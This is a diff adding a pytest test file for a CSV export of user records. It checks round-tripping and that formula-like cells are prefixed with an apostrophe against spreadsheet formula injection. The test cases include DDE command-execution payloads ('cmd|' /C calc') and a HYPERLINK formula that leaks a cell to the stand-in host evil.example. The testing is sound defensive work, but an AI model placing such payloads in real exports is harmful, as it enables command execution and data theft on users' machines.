@@ -1,0 +1,185 @@
+"""Users to CSV: what is read back is what was written, and Excel runs nothing of it."""
+
+import csv
+import io
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from shared import csvblocks
+from shared.columns import COLUMN_SETS, Cell, Column, columns_of
+from shared.users import AuthenticationMethods, Identity, User
+
+texts = st.text(st.characters(exclude_categories=["Cs"]))
+cells = st.none() | texts | st.sampled_from(["", '"', ",", "\r\n", "\r", "\n", "a\0b", "=1", "\ufeff", "'", "x\u2028y"])
+
+
+def column(cell: Cell, header: str = "header") -> Column:
+    return Column(header, "id", lambda _: cell)
+
+
+def written(cell: Cell, excel: bool = True) -> str:
+    """The one cell as a reader sees it."""
+    data = csvblocks.rows([User(id="1")], [column("x"), column(cell)], excel)
+    return table(data)[0][1]
+
+
+def table(data: bytes) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(data.decode(), newline=""), strict=True))
+
+
+@given(st.lists(st.lists(cells, min_size=3, max_size=3), max_size=5))
+def test_any_text_is_read_back_as_it_was(grid: list[list[str | None]]) -> None:
+    users = [User(id="1", display_name=a, surname=b, city=c) for a, b, c in grid]
+    data = csvblocks.rows(users, columns_of(["displayName", "surname", "city"]), excel=False)
+
+    assert table(data) == [[cell or "" for cell in row] for row in grid]
+
+
+@given(cells)
+def test_a_single_column_is_read_back_as_it_was(cell: str | None) -> None:
+    data = csvblocks.rows([User(id="1", city=cell)] * 2, columns_of(["city"]), excel=False)
+
+    assert table(data) == [[cell or ""]] * 2
+
+
+@given(cells | st.sampled_from("=+-@\t\r").flatmap(lambda first: texts.map(lambda rest: first + rest)))
+def test_for_excel_any_text_is_read_back_but_for_an_apostrophe_before_formulas(cell: str | None) -> None:
+    found, text = written(cell), cell or ""
+
+    assert found in {text, "'" + text}
+    if found != text:
+        assert text[0] in "=+-@\t\r"
+    if found[:1] in {"=", "@", "\t", "\r"}:
+        pytest.fail("a formula is unguarded")
+    if found[:1] in {"+", "-"} and found:
+        assert set(found) <= set("+-0123456789 ().,/xet")
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        "=1+1",
+        "=cmd|' /C calc'!A0",
+        '=HYPERLINK("http://evil.example?x="&A1,"click")',
+        "=",
+        "==",
+        "+1+1",
+        "+cmd|' /C calc'!A0",
+        "+A1",
+        "+1*1",
+        "+1-2+cmd|' /C calc'!A0",
+        "+",
+        "-1+1",
+        "-2+3+cmd|' /C calc'!A0",
+        "-A1",
+        "-",
+        "--1",
+        "-1-1",
+        "+1=1",
+        "+1;2",
+        "+1,2,3",
+        "+1 SUM(A1)",
+        "+1x",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "@ann",
+        "\t=1+1",
+        "\r=1+1",
+        "\t",
+        "+٣",
+        "+1\n=1",
+    ],
+)
+def test_a_cell_that_excel_would_run_gets_an_apostrophe(cell: str) -> None:
+    assert written(cell) == "'" + cell
+    assert written(cell, excel=False) == cell
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        "+1 2065550110",
+        "+1 (425) 555-0100",
+        "+1 (425) 555-0100x12",
+        "+1 425 555 0100 ext. 12",
+        "+1 425 555 0100 ext 12",
+        "+1 4255550100x123",
+        "+44 (0)20 7946 0958",
+        "+49 30/123456-0",
+        "+49.30.123456",
+        "+(31) 20 123 4567",
+        "+31201234567",
+        "+971-4-391-7000",
+        "+0",
+        "-1",
+        "-12.5",
+        "-12,5",
+        "+3.14",
+        "1+1",
+        "a=b",
+        "ann@contoso.com",
+        "'=1",
+        " =1",
+        'O\'Neil, "Ann"',
+        "2026-01-01T00:00:00Z",
+        "",
+    ],
+)
+def test_phone_numbers_plain_numbers_and_other_texts_stay_as_they_are(cell: str) -> None:
+    assert written(cell) == cell
+
+
+@pytest.mark.parametrize(("cell", "text"), [(True, "True"), (False, "False"), (None, "")])
+@pytest.mark.parametrize("excel", [True, False])
+def test_booleans_are_true_and_false_as_in_the_portals_file_and_null_is_empty(
+    cell: Cell, text: str, excel: bool
+) -> None:
+    assert written(cell, excel) == text
+
+
+def test_lines_end_with_cr_and_lf_and_only_what_must_be_is_quoted() -> None:
+    users = [User(id="1", display_name="Ann", city="a,b"), User(id="2", display_name='The "Boss"', city="Zürich")]
+
+    assert csvblocks.rows(users, columns_of(["displayName", "city"]), excel=True) == (
+        'Ann,"a,b"\r\n"The ""Boss""",Zürich\r\n'.encode()
+    )
+
+
+def test_excel_gets_a_bom_before_the_headers_and_others_get_none() -> None:
+    columns = columns_of(["userPrincipalName", "mail"])
+
+    assert csvblocks.header(columns, excel=True) == b"\xef\xbb\xbfuserPrincipalName,mail\r\n"
+    assert csvblocks.header(columns, excel=False) == b"userPrincipalName,mail\r\n"
+
+
+def test_no_users_are_no_bytes() -> None:
+    assert csvblocks.rows([], columns_of(["mail"]), excel=True) == b""
+
+
+def test_lists_are_joined_with_semicolons() -> None:
+    user = User(
+        id="1",
+        other_mails=["a@x.com", "b@x.com"],
+        identities=[Identity("contoso"), Identity("google.com")],
+        authentication_methods=AuthenticationMethods(phone="+1 2065550110"),
+    )
+    headers = ["alternateEmailAddress", "identityIssuer", "authenticationPhoneNumber"]
+
+    assert csvblocks.rows([user], columns_of(headers), excel=True) == (
+        b"a@x.com; b@x.com,contoso; google.com,+1 2065550110\r\n"
+    )
+
+
+def test_a_list_that_begins_with_a_formula_is_guarded_too() -> None:
+    user = User(id="1", other_mails=["=1+1", "b@x.com"])
+
+    assert csvblocks.rows([user], columns_of(["alternateEmailAddress"]), excel=True) == b"'=1+1; b@x.com\r\n"
+
+
+@pytest.mark.parametrize("name", COLUMN_SETS)
+def test_a_user_has_as_many_cells_as_there_are_headers(name: str) -> None:
+    columns = columns_of(COLUMN_SETS[name])
+    header, row = table(csvblocks.header(columns, excel=False) + csvblocks.rows([User(id="1")], columns, excel=True))
+
+    assert len(header) == len(row) == len(columns)
